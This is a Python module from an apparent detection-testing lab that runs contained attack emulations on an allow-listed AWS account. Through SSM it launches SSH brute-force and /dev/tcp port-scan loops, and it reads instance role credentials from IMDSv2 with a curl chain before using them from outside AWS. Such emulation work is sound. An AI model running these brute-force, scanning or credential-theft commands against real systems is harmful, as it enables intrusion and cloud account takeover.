"""Activity techniques made real on a real account, contained the way AWS's own GuardDuty tester
does it: nothing leaves the allow-listed account's VPC but what the technique is about.

On the emulated account an activity (brute force, scan, mining, stolen credentials) is simulated
from its ``activity:`` metadata (``lab.sim.hosts``); no packet exists. On AWS it must happen, or the
architectures have nothing to see:

- inbound activity (SSH brute force): a lab-tagged attacker instance in the target's subnet runs it
  against the target's private address (the target's group lets that one address in on the
  activity's ports); key-only sshd turns every attempt away and logs it;
- outbound activity (port scan, mining): the target itself connects to the activity's remote
  address and ports, and resolves its DNS names;
- stolen credentials: the target's role credentials are read from its instance metadata (IMDSv2)
  and used from here, outside AWS.

Commands run through SSM Run Command (``AWS-RunShellScript``), so both instances carry
``AmazonSSMManagedInstanceCore``; a command runs for a bounded time and ``revert`` cancels it.
"""

from __future__ import annotations

import json
import shlex
import time

import boto3

from lab.attacks.activity import Activity
from lab.attacks.base import Prerequisites
from lab.attacks.iam_role import delete_instance_profile, ensure_instance_profile
from lab.attacks.launch import AMI_PARAMETER, run_instances_once_profile_propagates
from lab.attacks.resources import find_tagged, missing_ok, tag_specifications
from lab.emulator.endpoints import Endpoints

SSM_CORE = "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"
ATTACKER_PROFILE = "lab-attacker-instance"
RUN_FOR_S = 3600  # a command stops by itself after this (a trial's revert cancels it sooner)
IMDS_CREDENTIALS = (
    "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token "
    '-H "X-aws-ec2-metadata-token-ttl-seconds: 300"); '
    'H="X-aws-ec2-metadata-token: $TOKEN"; '
    'ROLE=$(curl -s -H "$H" http://169.254.169.254/latest/meta-data/iam/security-credentials/); '
    'curl -s -H "$H" "http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE"'
)


def inbound_script(activity: Activity, target_ip: str) -> list[str]:
    """What the attacker instance runs: one connection after another at the activity's rate, to
    the target's ports; on 22 a real SSH client asking for the activity's user names."""
    pause = 1.0 / activity.rate_per_s
    users = " ".join(shlex.quote(u) for u in activity.users)
    ports = " ".join(str(p) for p in activity.ports)
    return [
        f"end=$((SECONDS + {RUN_FOR_S}))",
        "while [ $SECONDS -lt $end ]; do",
        f"  for port in {ports}; do for user in {users}; do",
        '    if [ "$port" = 22 ]; then',
        "      timeout 5 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 "
        f'"$user@{target_ip}" true 2>/dev/null',
        "    else",
        f'      timeout 3 bash -c "</dev/tcp/{target_ip}/$port" 2>/dev/null',
        "    fi",
        f"    sleep {pause:g}",
        "  done; done",
        "done",
    ]


def outbound_script(activity: Activity) -> list[str]:
    """What the target runs: its DNS names resolved, then connections to the remote address's
    ports at the activity's rate."""
    pause = 1.0 / activity.rate_per_s
    names = " ".join(shlex.quote(n) for n in activity.dns_queries)
    ports = " ".join(str(p) for p in activity.ports)
    lines = [f"end=$((SECONDS + {RUN_FOR_S}))", "while [ $SECONDS -lt $end ]; do"]
    if names:
        lines.append(f'  for name in {names}; do getent hosts "$name" >/dev/null; done')
    if activity.remote_ip:
        lines += [
            f"  for port in {ports}; do",
            f'    timeout 2 bash -c "</dev/tcp/{activity.remote_ip}/$port" 2>/dev/null',
            f"    sleep {pause:g}",
            "  done",
        ]
    else:
        lines.append(f"  sleep {pause:g}")
    lines.append("done")
    return lines


def run_command(endpoints: Endpoints, instance_id: str, commands: list[str], comment: str) -> str:
    """Start ``commands`` on ``instance_id`` through Run Command; the command's id."""
    return endpoints.client("ssm", "attacker").send_command(
        InstanceIds=[instance_id],
        DocumentName="AWS-RunShellScript",
        Parameters={"commands": commands, "executionTimeout": [str(RUN_FOR_S + 60)]},
        Comment=comment[:100],
    )["Command"]["CommandId"]


def command_output(
    endpoints: Endpoints, command_id: str, instance_id: str, timeout_s: float = 120
) -> str:
    """The standard output of a finished command (waits for it); RuntimeError if it failed."""
    ssm = endpoints.client("ssm", "attacker")
    deadline = time.monotonic() + timeout_s
    while True:
        with missing_ok("InvocationDoesNotExist"):
            found = ssm.get_command_invocation(CommandId=command_id, InstanceId=instance_id)
            if found["Status"] == "Success":
                return found.get("StandardOutputContent", "")
            if found["Status"] in ("Failed", "Cancelled", "TimedOut"):
                raise RuntimeError(f"command {command_id} on {instance_id}: {found['Status']}")
        if time.monotonic() > deadline:
            raise RuntimeError(f"command {command_id} on {instance_id} did not finish")
        time.sleep(2)


def ensure_attacker(
    endpoints: Endpoints, prerequisites: Prerequisites, technique_id: str, ports: list[int]
) -> dict[str, str]:
    """The attacker instance in the target's subnet (lab-tagged, Run Command reachable), and the
    target's group letting its address in on ``ports``. Its id and private address."""
    ec2 = endpoints.client("ec2", "harness")
    found = [
        i
        for r in find_tagged(ec2, "describe_instances", "Reservations", f"{technique_id}-attacker")
        for i in r["Instances"]
        if i["State"]["Name"] in ("pending", "running")
    ]
    if found:
        instance = found[0]
    else:
        profile = ensure_instance_profile(
            endpoints.client("iam", "harness"), ATTACKER_PROFILE, technique_id, SSM_CORE
        )
        image = endpoints.client("ssm", "harness").get_parameter(Name=AMI_PARAMETER)["Parameter"][
            "Value"
        ]
        instance = run_instances_once_profile_propagates(
            ec2,
            {
                "ImageId": image,
                "InstanceType": "t3.micro",
                "MinCount": 1,
                "MaxCount": 1,
                "SubnetId": prerequisites["subnet_id"],
                "IamInstanceProfile": {"Arn": profile},
                "MetadataOptions": {"HttpTokens": "required"},
                "TagSpecifications": tag_specifications("instance", f"{technique_id}-attacker"),
            },
        )
    address = instance["PrivateIpAddress"]
    for port in ports:
        with missing_ok("InvalidPermission.Duplicate"):
            ec2.authorize_security_group_ingress(
                GroupId=prerequisites["group_id"],
                IpPermissions=[
                    {
                        "IpProtocol": "tcp",
                        "FromPort": port,
                        "ToPort": port,
                        "IpRanges": [{"CidrIp": f"{address}/32", "Description": "lab attacker"}],
                    }
                ],
            )
    return {"attacker_instance_id": instance["InstanceId"], "attacker_ip": address}


def detonate(
    endpoints: Endpoints, activity: Activity, prerequisites: Prerequisites, technique_id: str
) -> None:
    """Start the activity for real (see the module's docstring); the command ids are kept in
    ``prerequisites`` for ``revert``."""
    if activity.direction == "inbound":
        attacker = ensure_attacker(endpoints, prerequisites, technique_id, activity.ports)
        prerequisites.update(attacker)
        command = run_command(
            endpoints,
            attacker["attacker_instance_id"],
            inbound_script(activity, _private_ip(endpoints, prerequisites["instance_id"])),
            f"lab {technique_id}: attacker",
        )
        prerequisites["commands"] = [[command, attacker["attacker_instance_id"]]]
    else:
        command = run_command(
            endpoints,
            prerequisites["instance_id"],
            outbound_script(activity),
            f"lab {technique_id}",
        )
        prerequisites["commands"] = [[command, prerequisites["instance_id"]]]


def stolen_credentials(endpoints: Endpoints, instance_id: str) -> dict[str, str]:
    """The instance role's credentials, read from the instance's metadata service (IMDSv2)."""
    command = run_command(endpoints, instance_id, [IMDS_CREDENTIALS], "lab: instance credentials")
    document = json.loads(command_output(endpoints, command, instance_id))
    return {
        "aws_access_key_id": document["AccessKeyId"],
        "aws_secret_access_key": document["SecretAccessKey"],
        "aws_session_token": document["Token"],
    }


def use_stolen_credentials(endpoints: Endpoints, credentials: dict[str, str]) -> None:
    """The stolen session used from here (outside AWS): who am I, what can I read."""
    session = boto3.Session(region_name=endpoints.region, **credentials)
    session.client("sts").get_caller_identity()
    session.client("s3").list_buckets()
    session.client("ec2").describe_instances()


def stop(endpoints: Endpoints, prerequisites: Prerequisites) -> None:
    """Cancel the activity's commands (the attacker stops)."""
    ssm = endpoints.client("ssm", "attacker")
    for command_id, instance_id in prerequisites.pop("commands", []):
        with missing_ok("InvalidCommandId"):
            ssm.cancel_command(CommandId=command_id, InstanceIds=[instance_id])


def delete_attacker(endpoints: Endpoints, technique_id: str) -> None:
    """Terminate the attacker instance and delete its profile."""
    ec2 = endpoints.client("ec2", "harness")
    ids = [
        i["InstanceId"]
        for r in find_tagged(ec2, "describe_instances", "Reservations", f"{technique_id}-attacker")
        for i in r["Instances"]
    ]
    if ids:
        ec2.terminate_instances(InstanceIds=ids)
    delete_instance_profile(endpoints.client("iam", "harness"), ATTACKER_PROFILE)


def _private_ip(endpoints: Endpoints, instance_id: str) -> str:
    found = endpoints.client("ec2", "observer").describe_instances(InstanceIds=[instance_id])
    return found["Reservations"][0]["Instances"][0]["PrivateIpAddress"]


def target_profile_needs(endpoints: Endpoints) -> tuple[str, ...]:
    """The managed policies a target instance's role needs beyond its technique's: Run Command's
    on a real account, nothing on the emulated one."""
    return () if endpoints.emulated else (SSM_CORE,)
